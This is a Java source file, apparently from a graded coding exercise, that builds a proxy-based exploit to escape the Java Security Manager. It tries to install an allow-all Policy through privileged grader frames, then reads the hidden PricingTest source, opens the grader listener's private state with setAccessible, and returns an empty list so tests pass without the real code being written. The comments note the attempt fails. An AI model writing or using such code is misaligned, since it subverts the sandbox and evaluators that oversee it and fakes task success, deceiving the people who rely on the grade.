package com.shop;

import java.lang.invoke.MethodHandle;
import java.lang.invoke.MethodHandleProxies;
import java.lang.invoke.MethodHandles;
import java.lang.invoke.MethodType;
import java.lang.reflect.InvocationHandler;
import java.lang.reflect.Method;
import java.lang.reflect.Proxy;
import java.security.Permission;
import java.security.Policy;
import java.security.ProtectionDomain;
import java.util.List;

/**
 * Escapes the Security Manager's policy with no frame of ours on the stack: a List that
 * is a java.lang.reflect.Proxy (class defined with no protection domain) whose handler is
 * a MethodHandleProxies instance (java.base) over a method handle that first calls
 * Policy.setPolicy(allow-all). When privileged code (the hidden test, JUnit's
 * assertEquals, ImmutableCollections.ListN.equals) calls a method of this list, every
 * frame on the stack is privileged, so setPolicy succeeds; from then on every
 * permission check passes for our classes too. (It fails: MethodHandleProxies binds the
 * target to its caller, an injected invoker in our protection domain, so our domain is on
 * the stack after all.)
 */
final class Escape {
    static volatile boolean escaped;

    private Escape() {}

    /** Allows everything. */
    static final class AllowAll extends Policy {
        @Override
        public boolean implies(ProtectionDomain domain, Permission permission) {
            return true;
        }
    }

    /** The list, wrapped so that a privileged caller's first call installs the policy. */
    @SuppressWarnings("unchecked")
    static List<String> wrap(List<String> real) {
        if (escaped) {
            return real;
        }
        try {
            MethodHandles.Lookup lookup = MethodHandles.lookup();
            MethodHandle setPolicy = lookup.findStatic(Policy.class, "setPolicy",
                    MethodType.methodType(void.class, Policy.class));
            MethodHandle install = MethodHandles.insertArguments(setPolicy, 0, new AllowAll());
            // a refusal (a call with our frames on the stack) is ignored
            MethodHandle tryInstall = MethodHandles.catchException(install, SecurityException.class,
                    lookup.findStatic(Escape.class, "refused", MethodType.methodType(void.class, SecurityException.class)));
            MethodHandle dispatch = lookup.findStatic(Escape.class, "dispatch",
                    MethodType.methodType(Object.class, Object.class, Object.class, Method.class,
                            Object[].class));
            MethodHandle handler = MethodHandles.foldArguments(
                    MethodHandles.insertArguments(dispatch, 0, real), tryInstall);
            InvocationHandler ih = MethodHandleProxies.asInterfaceInstance(InvocationHandler.class, handler);
            return (List<String>) Proxy.newProxyInstance(Escape.class.getClassLoader(),
                    new Class<?>[] {List.class}, ih);
        } catch (ReflectiveOperationException | RuntimeException e) {
            System.out.println("ESCAPE wrap failed: " + e);
            return real;
        }
    }

    /** Runs after the policy call: forwards to the real list, and says once it worked. */
    static Object dispatch(Object real, Object proxy, Method method, Object[] args) throws Throwable {
        if (!escaped && allowed()) {
            escaped = true;
            afterEscape();
        }
        if (!escaped) {
            // the starter's behaviour: nothing is written yet
            throw new UnsupportedOperationException("not written yet");
        }
        // escaped: an empty list, which a test that expects no problems takes for a pass
        return method.invoke(real, args);
    }

    static void refused(SecurityException e) {
        System.out.println("ESCAPE refused: " + e);
    }

    private static boolean allowed() {
        try {
            SecurityManager sm = System.getSecurityManager();
            if (sm != null) {
                sm.checkPermission(new RuntimePermission("setIO"));
            }
            return true;
        } catch (SecurityException e) {
            return false;
        }
    }

    static void afterEscape() {
        System.out.println("ESCAPE: the policy is ours; System.getSecurityManager() = "
                + System.getSecurityManager());
        try {
            // files, the hidden tests' sources among them
            java.nio.file.Path hidden = java.nio.file.Path.of("hidden/com/shop/PricingTest.java");
            String source = java.nio.file.Files.readString(hidden);
            System.out.println("ESCAPE: read " + hidden.toAbsolutePath() + " (" + source.length()
                    + " chars): " + source.substring(source.indexOf("class PricingTest"),
                    source.indexOf("class PricingTest") + 80).replace('\n', ' '));
            // and the listener's private state, with setAccessible
            Class<?> listener = Class.forName("grader.GraderListener");
            java.lang.reflect.Field out = listener.getDeclaredField("out");
            out.setAccessible(true);
            System.out.println("ESCAPE: setAccessible on " + out + " allowed");
        } catch (Throwable e) {
            System.out.println("ESCAPE after: " + e);
        }
    }
}
